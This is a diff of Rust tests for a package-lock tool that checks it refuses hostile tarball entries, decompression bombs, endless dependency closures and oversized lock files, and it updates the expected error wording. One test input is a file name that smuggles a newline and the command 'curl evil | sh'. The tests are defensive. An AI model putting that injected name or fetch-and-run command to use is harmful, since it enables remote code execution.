@@ -66,7 +66,7 @@ fn tarball_entries_that_leave_the_package_are_refused_at_lock_time() {
         (RawEntry::file("package/x\nRUN curl evil | sh", "x"), &["\\n", "not allowed"]),
         (
             RawEntry { declared_size: Some(4 << 30), ..RawEntry::file("package/bomb", "") },
-            &["unpacks to more than 536870912 bytes"],
+            &["`unpacked size`", "is over the limit of 536870912 bytes"],
         ),
     ];
     for (entry, names) in cases {
@@ -175,7 +175,7 @@ fn a_registry_cannot_make_the_closure_endless() {
         serve_package(&s, &name, "1.0.0", &format!("{name}.tgz"), &tarball, &deps);
     }
     let (code, err, _) = lock_against(&s);
-    assert_unsafe(code, &err, &["more than 64 packages"]);
+    assert_unsafe(code, &err, &["`dependency closure of @playwright/cli`", "is over the limit of 64 packages"]);
 }
 
 /// A good lock from the local registry, as JSON, with its directory (cache inside).
@@ -241,7 +241,7 @@ fn hostile_lock_files_are_refused_before_anything_is_built() {
                 let p = l["packages"][0].clone();
                 l["packages"] = (0..65).map(|_| p.clone()).collect();
             },
-            &["`packages`", "more than 64 packages"],
+            &["`packages` \"65\" is over the limit of 64 packages"],
         ),
     ];
     for (edit, names) in cases {
